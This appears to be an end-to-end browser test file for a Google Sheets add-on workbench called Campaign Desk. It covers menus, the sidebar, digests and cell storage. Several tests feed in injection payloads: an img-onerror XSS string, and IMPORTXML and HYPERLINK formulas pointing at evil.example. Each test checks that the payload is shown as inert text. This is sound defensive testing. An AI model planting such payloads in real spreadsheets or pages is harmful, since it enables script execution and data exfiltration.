/**
 * The workbench end to end: the real server running build/Code.js, driven in Chromium the way a
 * new user would try Campaign Desk. Set UPDATE_SCREENSHOT=1 to rewrite docs/workbench.png,
 * docs/digest.png and docs/sidebar.png.
 */
import { existsSync, mkdirSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { HTML_INJECTION_CATEGORY } from "../../src/local/demo/catalog";
import { DEMO_SCENARIOS } from "../../src/local/demo/demo-workbook";
import { freePort, launchChromium, ROOT, type RunningServer, startServer } from "./harness";

let browser: Browser;
let server: RunningServer;
let port: number;
let dir: string;
let statePath: string;
let page: Page;
const problems: string[] = [];

/** Waits until the page has no request out (it sets body[data-busy] meanwhile). */
async function settled(target = page): Promise<void> {
  await target.waitForSelector("body[data-ready=true]:not([data-busy])");
}

async function openPage(): Promise<Page> {
  const opened = await browser.newPage({ viewport: { width: 1400, height: 900 } });
  opened.on("console", (message) => {
    if (message.type() === "error") problems.push(`console: ${message.text()}`);
  });
  opened.on("pageerror", (error) => problems.push(`page error: ${error.message}`));
  // A script planted in a cell would show itself through alert(); the workbench never uses it.
  opened.on("dialog", (dialog) => {
    problems.push(`browser dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  // Offline here: Google's add-on stylesheet answers empty, and the sidebar's own styles apply.
  await opened.route("https://ssl.gstatic.com/**", (route) =>
    route.fulfill({ status: 200, contentType: "text/css", body: "" }),
  );
  await opened.goto(server.url);
  await settled(opened);
  return opened;
}

async function runFromMenu(functionName: string): Promise<string> {
  await page.getByTestId("menu-extensions").click();
  await page.getByTestId("menu-campaign-desk").click();
  await page.getByTestId(`menu-item-${functionName}`).click();
  const dialog = page.getByTestId("alert-dialog");
  await dialog.waitFor({ state: "visible" });
  const message = (await page.getByTestId("alert-message").textContent()) ?? "";
  await page.getByTestId("alert-ok").click();
  await dialog.waitFor({ state: "hidden" });
  await settled();
  return message;
}

const XSS_NAME = '<img src=x onerror="document.title=1">Holiday <b>Glow</b>';
const FORMULA_NAME = '=IMPORTXML("http://evil.example/","//a")';

/** Runs a sidebar menu item and waits for the sidebar's brief form, drawn from sidebarLoad. */
async function openSidebar(functionName: string) {
  await page.getByTestId("menu-extensions").click();
  await page.getByTestId("menu-campaign-desk").click();
  await page.getByTestId(`menu-item-${functionName}`).click();
  await page.getByTestId("sidebar-frame").waitFor();
  const frame = page.frameLocator('[data-testid="sidebar-frame"]');
  await frame.getByTestId("brief-form").locator("fieldset").first().waitFor({ timeout: 15_000 });
  await settled();
  return frame;
}

async function showTab(name: string): Promise<void> {
  await page.getByTestId(`tab-${name}`).click();
  await page.waitForSelector(`body[data-tab="${name}"]`);
  await settled();
}

/** The cell of a row (found by its first column's text) under a header, as a locator. */
async function cellOf(key: string, header: string) {
  const place = await page.evaluate(
    ({ key, header }) => {
      const cells = [...document.querySelectorAll<HTMLTableCellElement>("td[data-row]")];
      const head = cells.find((td) => td.dataset.row === "1" && td.textContent === header);
      const row = cells.find((td) => td.dataset.column === "1" && td.textContent === key);
      return head && row ? { row: row.dataset.row, column: head.dataset.column } : null;
    },
    { key, header },
  );
  if (!place) throw new Error(`No cell for ${key} / ${header}`);
  return page.locator(`td[data-row="${place.row}"][data-column="${place.column}"]`);
}

beforeAll(async () => {
  browser = await launchChromium();
  port = await freePort();
  dir = mkdtempSync(join(tmpdir(), "workbench-e2e-"));
  statePath = join(dir, "state.json");
  server = await startServer(port, statePath);
  page = await openPage();
  // Starting the server and Chromium takes seconds idle, far longer with the cores busy.
}, 180_000);

afterEach(() => {
  expect(problems).toEqual([]);
});

afterAll(async () => {
  await browser?.close();
  await server?.stop();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe("the workbench", () => {
  it("shows the demo workbook like a spreadsheet, with the add-on's whole menu", async () => {
    await expect(page.getByTestId("clock-today").textContent()).resolves.toMatch(
      /^Today: \d{4}-\d{2}-\d{2}$/,
    );
    for (const tab of [
      "Products",
      "Campaigns",
      "Creators",
      "Collaborations",
      "Samples",
      "Authorizations",
      "Orders",
      "Settings",
    ]) {
      await page.getByTestId(`tab-${tab}`).waitFor();
    }
    await page.getByTestId("menu-extensions").click();
    await page.getByTestId("menu-campaign-desk").click();
    const captions = await page
      .getByTestId("campaign-desk-menu")
      .locator("button.menu-item")
      .allTextContents();
    expect(captions).toEqual(
      expect.arrayContaining([
        "Set up workbook",
        "Run checks now",
        "Refresh operating view",
        "Turn on daily alerts",
        "Turn off daily alerts",
      ]),
    );
    expect(captions.some((caption) => caption.startsWith("Daily alerts"))).toBe(true);
    await page.keyboard.press("Escape");
    await page.mouse.click(700, 600);
    // A fresh start is the team's workbook before setup: the page says to set it up first,
    // and no empty side panel takes room.
    await expect(page.getByTestId("setup-notice").textContent()).resolves.toContain("Set up workbook");
    await expect(page.getByTestId("setup-notice").isVisible()).resolves.toBe(true);
    await expect(page.getByTestId("panel").isVisible()).resolves.toBe(false);
  });

  it("sets up the workbook and runs the checks from the menu: an overdue row turns red, a digest is sent", async () => {
    expect(await runFromMenu("setUpWorkbookFromMenu")).toContain("Campaign Desk is set up");
    await page.getByTestId("tab-Operations").waitFor();
    await expect(page.getByTestId("setup-notice").isVisible()).resolves.toBe(false);
    expect(await runFromMenu("runChecksFromMenu")).toMatch(/Checks done for .*Digest sent to/s);

    await showTab("Collaborations");
    const overdue = await cellOf(DEMO_SCENARIOS.overdueFlatFee, "Payout status");
    await expect(overdue.textContent()).resolves.toMatch(/^Content overdue/);
    await expect(overdue.evaluate((td) => getComputedStyle(td).backgroundColor)).resolves.toBe(
      "rgb(248, 215, 218)",
    );
    // The header row is frozen and the add-on's own columns have their purple header.
    const header = page.locator('td[data-row="1"]', { hasText: "Payout status" });
    await expect(header.evaluate((td) => getComputedStyle(td).position)).resolves.toBe("sticky");
    await expect(header.evaluate((td) => getComputedStyle(td).backgroundColor)).resolves.toBe(
      "rgb(232, 224, 245)",
    );
    await expect(page.locator("td.dropdown-cell").count()).resolves.toBeGreaterThan(0);

    await page.getByTestId("open-outbox").click();
    const mails = page.getByTestId("outbox-mail");
    await mails.first().waitFor();
    expect(await mails.count()).toBeGreaterThan(0);
    await expect(page.getByTestId("outbox-subject").first().textContent()).resolves.toMatch(
      /^Campaign Desk: \d+ alerts/,
    );
    await expect(page.getByTestId("outbox-to").first().textContent()).resolves.toMatch(
      /^To: .+@example\.com/,
    );
    const frame = page.getByTestId("outbox-frame").first();
    await expect(frame.getAttribute("sandbox")).resolves.toBe("");
    await expect(
      page.frameLocator('[data-testid="outbox-frame"] >> nth=0').locator("body").textContent(),
    ).resolves.toContain("daily digest");
    await expect(
      page.frameLocator('[data-testid="outbox-frame"] >> nth=0').locator("body").textContent(),
    ).resolves.toMatch(/By kind: .*(more in the Operations tab|Everything is in the Operations tab)/s);

    if (process.env.UPDATE_SCREENSHOT === "1") {
      mkdirSync(join(ROOT, "docs"), { recursive: true });
      await page.screenshot({ path: join(ROOT, "docs/workbench.png") });
      // README: what a manager's digest looks like (docs/digest.png), the Outbox widened to read it.
      const wide = await page.addStyleTag({
        content: ".panel{width:760px}.mail iframe{height:1500px}",
      });
      await page.setViewportSize({ width: 1400, height: 2600 });
      const manager = mails.filter({ hasText: "To: ops-lead@example.com" }).first();
      await manager.scrollIntoViewIfNeeded();
      const content = manager.locator("iframe").contentFrame();
      await content.getByText("By kind:").waitFor();
      // The frame as tall as the email, so the picture ends where the email does.
      const height = await content
        .locator("body > div")
        .first()
        .evaluate((email) => Math.ceil(email.getBoundingClientRect().bottom) + 16);
      await manager.locator("iframe").evaluate((frame, px) => {
        (frame as HTMLElement).style.height = `${px + 4}px`;
      }, height);
      await manager.screenshot({ path: join(ROOT, "docs/digest.png"), animations: "disabled" });
      await wide.evaluate((style) => (style as HTMLElement).remove());
      await page.setViewportSize({ width: 1400, height: 900 });
    }
  });

  it("shows a cell holding markup as text everywhere", async () => {
    await showTab("Creators");
    const category = await cellOf(DEMO_SCENARIOS.htmlInjection, "Category");
    await expect(category.textContent()).resolves.toBe(HTML_INJECTION_CATEGORY);
    await expect(page.locator('img[src="x"]').count()).resolves.toBe(0);
    await category.click();
    await expect(page.getByTestId("formula-input").inputValue()).resolves.toBe(HTML_INJECTION_CATEGORY);
    // Nor in any email of the outbox.
    const frames = page.locator('[data-testid="outbox-frame"]');
    for (let i = 0; i < (await frames.count()); i++) {
      await expect(
        page.frameLocator(`[data-testid="outbox-frame"] >> nth=${i}`).locator('img[src="x"]').count(),
      ).resolves.toBe(0);
    }
  });

  it("turns on daily alerts and moves the clock until an authorization expires", async () => {
    expect(await runFromMenu("turnOnDailyAlertsFromMenu")).toContain("Daily alerts are on");
    await page.getByTestId("open-triggers").click();
    await expect(page.getByTestId("trigger").first().textContent()).resolves.toContain("runDailyChecks");
    await showTab("Authorizations");
    const status = async () =>
      (await cellOf(DEMO_SCENARIOS.expiringAuthorization, "Auth status")).textContent();
    expect(await status()).toMatch(/^Expiring/);
    const outboxBefore = Number(await page.getByTestId("outbox-count").textContent());
    const startDay = (await page.getByTestId("clock-today").textContent()) ?? "";
    for (let day = 1; day <= 6 && !(await status())?.startsWith("Expired"); day++) {
      const before = (await page.getByTestId("clock-today").textContent()) ?? "";
      await page.getByTestId("clock-advance").click();
      await page.waitForFunction(
        (shown) => document.querySelector('[data-testid="clock-today"]')?.textContent !== shown,
        before,
      );
      await settled();
    }
    expect(await status()).toMatch(/^Expired/);
    const cell = await cellOf(DEMO_SCENARIOS.expiringAuthorization, "Auth status");
    await expect(cell.evaluate((td) => getComputedStyle(td).backgroundColor)).resolves.not.toBe(
      "rgb(255, 255, 255)",
    );
    expect(await page.getByTestId("clock-today").textContent()).not.toBe(startDay);
    expect(Number(await page.getByTestId("outbox-count").textContent())).toBeGreaterThan(outboxBefore);
  });

  it("reads like Sheets: dropdowns, warnings, the side panel, long alerts, day headers and local times", async () => {
    // Pick a value from a cell's dropdown.
    await showTab("Creators");
    const pool = await cellOf("@homewithnora", "Pool");
    await pool.locator('[data-testid="dropdown-arrow"]').click();
    const choices = page.getByTestId("dropdown-choices");
    await choices.waitFor({ state: "visible" });
    await expect(choices.getByTestId("dropdown-choice").allTextContents()).resolves.toEqual([
      "Priority",
      "One-off",
      "Test more",
    ]);
    await choices.getByText("Test more", { exact: true }).click();
    await settled();
    await expect((await cellOf("@homewithnora", "Pool")).textContent()).resolves.toBe("Test more▾");

    // A value the dropdown does not list is kept, with Sheets' warning beside the cell.
    await (await cellOf("@homewithnora", "Pool")).dblclick();
    await page.getByTestId("cell-editor").fill("Maybe later");
    await page.getByTestId("cell-editor").press("Enter");
    await settled();
    const odd = await cellOf("@homewithnora", "Pool");
    await expect(odd.getAttribute("class")).resolves.toContain("invalid");
    await odd.click();
    await expect(page.getByTestId("cell-warning").textContent()).resolves.toContain(
      'Invalid: "Maybe later" is not an item of this cell\'s list (Priority, One-off, Test more)',
    );
    await (await cellOf("@homewithnora", "Category")).click();
    await expect(page.getByTestId("cell-warning").count()).resolves.toBe(0);

    // The side panel hides and shows again.
    const panel = page.getByTestId("panel");
    await page.getByTestId("open-outbox").click();
    await page.getByTestId("outbox-mail").first().waitFor();
    await expect(panel.isVisible()).resolves.toBe(true);
    // Emails show their time in the spreadsheet's zone, at the digest hour (8) for the trigger's.
    const sentTimes = await page.locator(".mail-meta", { hasText: "From:" }).allTextContents();
    expect(sentTimes.length).toBeGreaterThan(0);
    for (const text of sentTimes)
      expect(text).toMatch(/\d{4}-\d{2}-\d{2} \d{2}:\d{2} \(America\/Los_Angeles\)$/);
    expect(sentTimes.some((text) => / 08:\d{2} \(America/.test(text))).toBe(true);
    await page.getByTestId("panel-close").click();
    await expect(panel.isVisible()).resolves.toBe(false);
    await page.getByTestId("open-triggers").click();
    await expect(panel.isVisible()).resolves.toBe(true);
    await expect(page.getByTestId("trigger-installed").first().textContent()).resolves.toMatch(
      / on \d{4}-\d{2}-\d{2} \d{2}:\d{2} \(America\/Los_Angeles\)$/,
    );
    await page.getByTestId("open-triggers").click();
    await expect(panel.isVisible()).resolves.toBe(false);

    // A long alert, cut in its cell, reads in full in the formula bar.
    await showTab("Collaborations");
    const longest = await page.evaluate(() => {
      const cells = [...document.querySelectorAll<HTMLTableCellElement>("td[data-row]")];
      const column = cells.find((td) => td.dataset.row === "1" && td.textContent === "Alerts")?.dataset
        .column;
      const texts = cells.filter((td) => td.dataset.column === column && td.dataset.row !== "1");
      texts.sort((a, b) => (b.textContent ?? "").length - (a.textContent ?? "").length);
      return { row: texts[0]?.dataset.row, column };
    });
    const alerts = page.locator(`td[data-row="${longest.row}"][data-column="${longest.column}"]`);
    const full = (await alerts.textContent()) ?? "";
    expect(full.length).toBeGreaterThan(40);
    await expect(alerts.evaluate((td) => td.scrollWidth > td.clientWidth)).resolves.toBe(true);
    await alerts.click();
    const bar = page.getByTestId("formula-input");
    await expect(bar.inputValue()).resolves.toBe(full);
    await expect(bar.evaluate((area) => area.scrollHeight <= area.clientHeight + 1)).resolves.toBe(true);

    // Operations' day headers read whole, and each day differs from the next.
    await showTab("Operations");
    const days = await page.evaluate(() =>
      [...document.querySelectorAll<HTMLTableCellElement>('td[data-row="1"]')]
        .filter((td) => /^[A-Z][a-z]{2} \d{1,2}$/.test(td.textContent ?? ""))
        .map((td) => ({ text: td.textContent ?? "", cut: td.scrollWidth > td.clientWidth })),
    );
    expect(days.length).toBe(30);
    expect(new Set(days.map((day) => day.text)).size).toBe(30);
    expect(days.filter((day) => day.cut)).toEqual([]);

    // The alerts dialog tells the last check's time in the spreadsheet's zone, not a UTC instant.
    const status = await runFromMenu("showAlertsStatus");
    expect(status).toMatch(/Last check: \d{4}-\d{2}-\d{2} \d{2}:\d{2} \(America\/Los_Angeles\)/);
    expect(status).not.toMatch(/\d{2}:\d{2}:\d{2}(\.\d+)?Z/);
  });

  it("stores typed cells as Sheets would and keeps them across a restart", async () => {
    await showTab("Creators");
    const edit = async (key: string, header: string, text: string) => {
      const cell = await cellOf(key, header);
      await cell.dblclick();
      const editor = page.getByTestId("cell-editor");
      await editor.fill(text);
      await editor.press("Enter");
      await settled();
      await page.waitForFunction(
        ({ row, column, text }) =>
          document.querySelector(`td[data-row="${row}"][data-column="${column}"]`)?.textContent === text,
        {
          row: await cell.getAttribute("data-row"),
          column: await cell.getAttribute("data-column"),
          text,
        },
      );
    };
    await edit("@homewithnora", "Category", "Home & garden");
    const formula = '=HYPERLINK("http://evil.example","x")';
    await edit("@homewithnora", "Email", formula);

    await server.stop();
    server = await startServer(port, statePath);
    expect(server.output()).toContain("restored");
    await page.reload();
    await settled();
    await showTab("Creators");
    await expect((await cellOf("@homewithnora", "Category")).textContent()).resolves.toBe("Home & garden");
    await expect((await cellOf("@homewithnora", "Email")).textContent()).resolves.toBe(formula);
    await expect(page.locator('a[href*="evil.example"]').count()).resolves.toBe(0);
  });

  it("opens the real sidebar beside the grid, its google.script.run calls reaching the bundle", async () => {
    const built = existsSync(join(ROOT, "build/sidebar.html"));
    await page.getByTestId("menu-extensions").click();
    await page.getByTestId("menu-campaign-desk").click();
    await page.getByTestId("menu-item-openNewCampaignBrief").click();
    if (!built) {
      // Until the sidebar is built the workbench says so instead of breaking.
      await page.getByTestId("alert-dialog").waitFor({ state: "visible" });
      await expect(page.getByTestId("alert-message").textContent()).resolves.toContain("sidebar");
      await page.getByTestId("alert-ok").click();
      return;
    }
    const frame = page.frameLocator('[data-testid="sidebar-frame"]');
    await page.getByTestId("sidebar-frame").waitFor();
    await expect(page.getByTestId("sidebar-frame").getAttribute("sandbox")).resolves.not.toContain(
      "allow-same-origin",
    );
    // brief-form is drawn from what sidebarLoad answered through the bridge.
    await frame.getByTestId("brief-form").waitFor({ timeout: 15_000 });
    await expect(frame.locator('img[src="x"]').count()).resolves.toBe(0);
  });
  it("designs a brief with a flash sale, shows its warnings, saves it once fixed, and recruits three creators", async () => {
    const frame = await openSidebar("openNewCampaignBrief");
    const field = (name: string) => frame.getByTestId(`field-${name}`);
    const warning = (name: string) => frame.getByTestId(`warning-${name}`);

    await field("campaignId").fill("C-E2E");
    await field("name").fill(XSS_NAME);
    await field("objective").selectOption("Event spike");
    // The objective shapes the form: LIVE required is marked required, and once it is ticked
    // the creator flash sale is offered (only LIVE creators run one).
    await expect(frame.getByTestId("hint-objective").textContent()).resolves.toContain("flash sale");
    await expect(
      frame.locator('[data-field="liveRequired"] .required').evaluate((star) => star.hasAttribute("hidden")),
    ).resolves.toBe(false);
    await expect(frame.getByTestId("section-flash").isHidden()).resolves.toBe(true);
    await field("liveRequired").check();
    await frame.getByTestId("section-flash").waitFor({ state: "visible" });
    await field("lane").selectOption("Target");
    await field("ownerEmail").fill("e2e@example.com");
    // Each SKU shows its stock and Open rate.
    const mask = frame.getByTestId("sku-picker").locator("label", { hasText: "GLW-MASK-OV" });
    await expect(mask.textContent()).resolves.toContain("300 in stock · Open 12%");
    await mask.locator("input").check();
    await field("start").fill("2027-01-10");
    await field("end").fill("2027-01-31");
    await field("reservedInventory").fill("500");
    await field("contentTypes").getByLabel("LIVE", { exact: true }).check();
    await field("paymentModel").selectOption("Flat fee + commission");
    await field("commissionRate").fill("10");
    await field("flatFee").fill("150");
    await field("contentDueDays").fill("7");
    await field("samplePolicy").selectOption("Free sample");
    await field("flashSaleStart").fill("2027-02-02");
    await field("flashSaleEnd").fill("2027-02-03");
    await field("flashSalePrice").fill("19.99");
    await field("amplification").selectOption("Shop Ads");
    await field("amplificationStart").fill("2027-01-20");
    await field("amplificationEnd").fill("2027-01-30");
    await field("authDaysNeeded").fill("7");

    // Five warnings (the flash sale starts and ends outside), each with its consequence; saving is allowed.
    await expect(warning("commissionRate").textContent()).resolves.toContain(
      "Target rate 10% is below the Open rate 12% of GLW-MASK-OV: creators will earn the lower Target rate",
    );
    await expect(warning("flashSaleStart").textContent()).resolves.toContain("outside the window");
    await expect(warning("reservedInventory").textContent()).resolves.toContain(
      "Reserved inventory of GLW-MASK-OV (500) is more than its stock on hand (300): creators may sell units you cannot ship",
    );
    await expect(warning("authDaysNeeded").textContent()).resolves.toContain(
      "ads on creator posts stop when the authorization expires",
    );
    await expect(frame.getByTestId("brief-summary").textContent()).resolves.toContain("5 warnings");
    // The cost per creator at the typed GMV: 10% of 1,000 + the fee + the free sample, over 1,000;
    // with no ads rate set, ad orders earn the same 10%.
    await expect(frame.getByTestId("cost-preview").textContent()).resolves.toBe(
      "GLW-MASK-OV: commission $100.00 at 10% + flat fee $150.00 + sample $7.50 = $257.50; effective commission 25.8%; ad orders earn 10%.",
    );
    await frame.getByTestId("preview-gmv").fill("2000");
    await expect(frame.getByTestId("cost-preview").textContent()).resolves.toContain(
      "effective commission 17.9%",
    );

    await field("commissionRate").fill("12");
    await field("flashSaleStart").fill("2027-01-24");
    await field("flashSaleEnd").fill("2027-01-25");
    await field("reservedInventory").fill("250");
    await field("authDaysNeeded").fill("30");
    for (const name of [
      "commissionRate",
      "flashSaleStart",
      "flashSaleEnd",
      "reservedInventory",
      "authDaysNeeded",
    ]) {
      await expect(warning(name).textContent()).resolves.toBe("");
    }
    await expect(frame.getByTestId("brief-summary").textContent()).resolves.toBe("Ready to save.");
    await frame.getByTestId("save-brief").click();
    await frame
      .getByTestId("brief-status")
      .filter({ hasText: /^Added C-E2E in row \d+ of Campaigns\.$/ })
      .waitFor();

    // Recruit: only LIVE-capable creators can be picked for a LIVE-required campaign.
    await frame.getByTestId("tab-recruit").click();
    await frame.getByTestId("recruit-campaign").selectOption("C-E2E");
    const pickable = frame.locator('[data-testid="recruit-creator"] input:not([disabled])');
    await pickable.first().waitFor();
    const names: string[] = [];
    for (let i = 0; i < 3; i++) {
      names.push((await pickable.nth(i).getAttribute("value")) ?? "");
      await pickable.nth(i).check();
    }
    await frame.getByTestId("invite").click();
    await frame
      .getByTestId("recruit-status")
      .filter({ hasText: "Invited 3 to C-E2E with GLW-MASK-OV" })
      .waitFor();
    await frame
      .getByTestId("recruit-status")
      .filter({ hasText: "Added 3 samples to the Samples tab." })
      .waitFor();
    const invitedIds =
      ((await frame.getByTestId("recruit-status").textContent()) ?? "").match(/K-\d{4,}/g) ?? [];
    expect(invitedIds).toHaveLength(3);
    // Already in the campaign now: hidden by the default filter, and not pickable when shown.
    for (const name of names) {
      await expect(
        frame.locator(`[data-testid="recruit-creator"][data-creator="${name}"]`).count(),
      ).resolves.toBe(0);
    }
    await frame.getByTestId("recruit-new-only").uncheck();
    await expect(
      frame.locator(`[data-testid="recruit-creator"][data-creator="${names[0]}"] input`).isDisabled(),
    ).resolves.toBe(true);

    await page.getByTestId("panel-close").click();
    await showTab("Collaborations");
    const invited = page.locator('td[data-column="2"]', { hasText: /^C-E2E$/ });
    await expect(invited.count()).resolves.toBe(3);
    // Each invitation has its sample row, pointing at its Collab ID.
    await showTab("Samples");
    for (const collabId of invitedIds) {
      await expect(
        page.locator('td[data-column="2"]', { hasText: new RegExp(`^${collabId}$`) }).count(),
      ).resolves.toBe(1);
    }
    await showTab("Campaigns");
    await expect((await cellOf("C-E2E", "Name")).textContent()).resolves.toBe(XSS_NAME);
    await expect(page.locator('img[src="x"]').count()).resolves.toBe(0);
  });

  it("edits the selected campaign from the menu, and keeps a formula-like name as plain text", async () => {
    await showTab("Campaigns");
    await (await cellOf("C-E2E", "Objective")).click();
    const frame = await openSidebar("openSelectedCampaignBrief");
    await expect(frame.getByTestId("campaign-picker").inputValue()).resolves.toBe("C-E2E");
    await expect(frame.getByTestId("field-name").inputValue()).resolves.toBe(XSS_NAME);
    await expect(frame.getByTestId("field-campaignId").getAttribute("readonly")).resolves.toBe("");
    await expect(frame.locator('img[src="x"]').count()).resolves.toBe(0);
    // Every control has a name a screen reader can say: a label, aria-label or aria-labelledby.
    const unnamed = await frame.locator("input, select, textarea, button").evaluateAll((controls) =>
      controls
        .filter((control) => {
          const labelled = (control as HTMLInputElement).labels?.length;
          const byId = control.getAttribute("aria-labelledby");
          const named = byId?.split(" ").every((id) => document.getElementById(id)?.textContent?.trim());
          const text = control.tagName === "BUTTON" && control.textContent?.trim();
          return !(labelled || named || control.getAttribute("aria-label") || text);
        })
        .map((control) => control.outerHTML.slice(0, 80)),
    );
    expect(unnamed).toEqual([]);
    // The tabs follow the arrow keys.
    await frame.getByTestId("tab-brief").focus();
    await frame.getByTestId("tab-brief").press("ArrowRight");
    await expect(frame.getByTestId("tab-recruit").getAttribute("aria-selected")).resolves.toBe("true");
    await frame.getByTestId("tab-recruit").press("ArrowLeft");

    const field = (name: string) => frame.getByTestId(`field-${name}`);
    // The demo's Partner campaign is Live: its rates are the agency's, shown read-only.
    await frame.getByTestId("campaign-picker").selectOption("C-008");
    await expect(field("name").inputValue()).resolves.toBe("Creator Week Partner");
    for (const rate of ["commissionRate", "adsRate"]) {
      await expect(field(rate).getAttribute("readonly")).resolves.toBe("");
      await expect(frame.getByTestId(`hint-${rate}`).textContent()).resolves.toBe(
        "Fixed: the agency or platform sets Partner rates once submitted (Status Live).",
      );
    }
    await expect(field("budget").getAttribute("readonly")).resolves.toBeNull();

    await frame.getByTestId("campaign-picker").selectOption("");
    await expect(field("commissionRate").getAttribute("readonly")).resolves.toBeNull();
    await field("campaignId").fill("C-E2F");
    await field("name").fill(FORMULA_NAME);
    await field("objective").selectOption("Organic test");
    await field("lane").selectOption("Open");
    await frame
      .getByTestId("sku-picker")
      .locator("label", { hasText: "GLW-SER-30" })
      .locator("input")
      .check();
    await field("start").fill("2027-02-01");
    await field("end").fill("2027-02-28");
    await field("contentTypes").getByLabel("Short video").check();
    await field("paymentModel").selectOption("Commission only");
    await field("commissionRate").fill("15");
    await field("samplePolicy").selectOption("No sample");
    await frame.getByTestId("save-brief").click();
    await frame
      .getByTestId("brief-status")
      .filter({ hasText: /^Added C-E2F in row \d+ of Campaigns\.$/ })
      .waitFor();

    await page.getByTestId("panel-close").click();
    await showTab("Campaigns");
    const name = await cellOf("C-E2F", "Name");
    await expect(name.textContent()).resolves.toBe(FORMULA_NAME);
    await name.click();
    await expect(page.getByTestId("formula-input").inputValue()).resolves.toBe(FORMULA_NAME);
    await expect(page.locator('a[href*="evil.example"]').count()).resolves.toBe(0);

    if (process.env.UPDATE_SCREENSHOT === "1") {
      // The first demo campaign, as a user would see it.
      await page.locator('td[data-row="2"][data-column="3"]').click();
      const sidebar = await openSidebar("openSelectedCampaignBrief");
      await sidebar.getByTestId("brief-summary").waitFor();
      await page.getByTestId("sidebar-frame").screenshot({ path: join(ROOT, "docs/sidebar.png") });
    }
  });
});
